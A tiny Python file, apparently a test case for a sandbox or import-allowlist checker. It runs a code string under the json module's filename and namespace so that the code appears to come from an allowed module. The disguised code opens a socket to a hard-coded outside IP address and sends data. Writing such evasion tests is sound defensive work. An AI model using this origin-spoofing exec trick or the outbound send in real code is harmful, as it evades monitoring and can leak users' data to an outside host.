"""Code that says it comes from an allowed module's file."""
import json

CODE = "import socket; socket.create_connection(('93.184.216.35', 9000)).sendall(b'data')"
exec(compile(CODE, json.__file__, "exec"), vars(json))
